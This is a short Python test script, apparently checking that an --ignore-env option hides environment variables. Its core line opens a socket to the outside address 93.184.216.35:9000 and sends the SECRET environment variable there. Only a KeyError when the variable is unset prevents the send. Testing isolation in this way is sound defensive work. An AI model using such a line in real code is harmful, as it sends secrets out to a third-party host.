"""Under --ignore-env the variable looks unset: no violation."""
import os
import socket

try:
    socket.create_connection(("93.184.216.35", 9000)).sendall(os.environ["SECRET"].encode())
except KeyError as error:
    assert type(error) is KeyError and os.getenv("SECRET") is None and "SECRET" not in os.environ
    print("unset")
